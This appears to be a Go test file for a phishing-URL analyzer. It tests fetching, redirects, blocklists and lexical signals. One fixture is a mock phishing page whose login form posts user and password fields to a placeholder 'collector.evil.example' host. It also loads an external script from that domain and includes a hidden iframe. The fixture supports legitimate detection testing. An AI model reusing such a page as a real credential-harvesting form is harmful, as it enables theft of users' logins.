package urlintel

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/msgguard/msgguard/internal/db"
	"github.com/msgguard/msgguard/internal/risk"
)

const phishingPage = `<!doctype html>
<html><head>
<title> Verify your account </title>
<script src="https://cdn.evil.example/kit.js"></script>
<script src="/local.js"></script>
</head><body>
<form action="https://collector.evil.example/post" method="post">
  <input type="text" name="user">
  <input type="PASSWORD" name="pass">
</form>
<iframe src="https://tracker.example" width="0" height="0"></iframe>
<iframe src="/frame"></iframe>
</body></html>`

type fakeReputation struct {
	entry *db.DomainEntry
	err   error
}

func (f fakeReputation) LookupDomain(_ context.Context, _ string) (*db.DomainEntry, error) {
	return f.entry, f.err
}

func newTestAnalyzer(rep Reputation) *Analyzer {
	return New(Options{Timeout: 5 * time.Second, AllowPrivate: true, Reputation: rep}, slog.Default())
}

func TestFetch_InvalidURLs(t *testing.T) {
	a := newTestAnalyzer(nil)
	for _, raw := range []string{"not-a-url", "", "   ", "ftp://files.example.com/x", "http://", "mailto:a@b.c"} {
		_, err := a.Fetch(context.Background(), raw)
		assert.ErrorIs(t, err, risk.ErrFetch, raw)
	}
}

func TestFetch_Unreachable(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	target := srv.URL
	srv.Close()

	_, err := newTestAnalyzer(nil).Fetch(context.Background(), target)
	assert.ErrorIs(t, err, risk.ErrFetch)
}

func TestFetch_BlocksPrivateAddresses(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	defer srv.Close()

	a := New(Options{Timeout: time.Second}, slog.Default())
	_, err := a.Fetch(context.Background(), srv.URL)
	assert.ErrorIs(t, err, risk.ErrFetch)
}

func TestFetch_PhishingPage(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, phishingPage)
	}))
	defer srv.Close()

	raw, err := newTestAnalyzer(nil).Fetch(context.Background(), srv.URL+"/login")
	require.NoError(t, err)

	assert.Equal(t, srv.URL+"/login", raw["url"])
	assert.Equal(t, 200, raw["status_code"])
	assert.Equal(t, "Verify your account", raw["title"])
	assert.Equal(t, 1, raw["forms"])
	assert.Equal(t, 1, raw["password_inputs"])
	assert.Equal(t, true, raw["external_form_action"])
	assert.Equal(t, 2, raw["iframes"])
	assert.Equal(t, 1, raw["hidden_iframes"])
	assert.Equal(t, 1, raw["external_scripts"])
	assert.Equal(t, true, raw["has_ip_host"])
	assert.Equal(t, false, raw["is_https"])
	assert.Equal(t, false, raw["blocklisted"])
	assert.Equal(t, []string{"login"}, raw["suspicious_keywords"])

	score, err := newTestAnalyzer(nil).Score(context.Background(), raw)
	require.NoError(t, err)
	assert.Equal(t, PredictionMalicious, score.Prediction)
	assert.InDelta(t, 0.99, score.MalwareScore, 1e-9)
}

func TestFetch_Redirects(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/start", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/r1", http.StatusFound) })
	mux.HandleFunc("/r1", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/r2", http.StatusFound) })
	mux.HandleFunc("/r2", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/final", http.StatusMovedPermanently) })
	mux.HandleFunc("/final", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"ok":true}`)
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	raw, err := newTestAnalyzer(nil).Fetch(context.Background(), srv.URL+"/start")
	require.NoError(t, err)

	assert.Equal(t, 3, raw["redirect_count"])
	assert.Equal(t, srv.URL+"/final", raw["final_url"])
	assert.Equal(t, "", raw["title"])
	assert.Equal(t, 0, raw["forms"])
}

func TestFetch_Blocklisted(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "<html><title>hi</title></html>")
	}))
	defer srv.Close()

	rep := fakeReputation{entry: &db.DomainEntry{Domain: "evil.example", Source: "openphish", Category: "phishing"}}
	raw, err := newTestAnalyzer(rep).Fetch(context.Background(), srv.URL)
	require.NoError(t, err)

	assert.Equal(t, true, raw["blocklisted"])
	assert.Equal(t, "openphish", raw["blocklist_source"])
}

func TestFetch_ReputationErrorIsNotFatal(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "ok")
	}))
	defer srv.Close()

	raw, err := newTestAnalyzer(fakeReputation{err: fmt.Errorf("connection refused")}).Fetch(context.Background(), srv.URL)
	require.NoError(t, err)
	assert.Equal(t, false, raw["blocklisted"])
}

func TestLexicalSignals(t *testing.T) {
	raw := "http://user@secure-login.paypal-verify.account.example.xyz:8080/a/b/c?x=1"
	u, err := url.Parse(raw)
	require.NoError(t, err)

	s := lexicalSignals(raw, u)

	assert.Equal(t, true, s["has_at_symbol"])
	assert.Equal(t, true, s["has_port"])
	assert.Equal(t, 3, s["subdomain_count"])
	assert.Equal(t, 2, s["hyphen_count"])
	assert.Equal(t, "xyz", s["tld"])
	assert.Equal(t, true, s["suspicious_tld"])
	assert.Equal(t, 3, s["path_depth"])
	assert.Equal(t, 3, s["query_length"])
	assert.Equal(t, false, s["has_ip_host"])
	assert.Subset(t, s["suspicious_keywords"], []string{"login", "verify", "account", "secure"})
}

func TestIsHiddenFrame(t *testing.T) {
	assert.True(t, isHiddenFrame(map[string]string{"style": "display: none"}))
	assert.True(t, isHiddenFrame(map[string]string{"hidden": ""}))
	assert.True(t, isHiddenFrame(map[string]string{"height": "0"}))
	assert.False(t, isHiddenFrame(map[string]string{"width": "300"}))
}
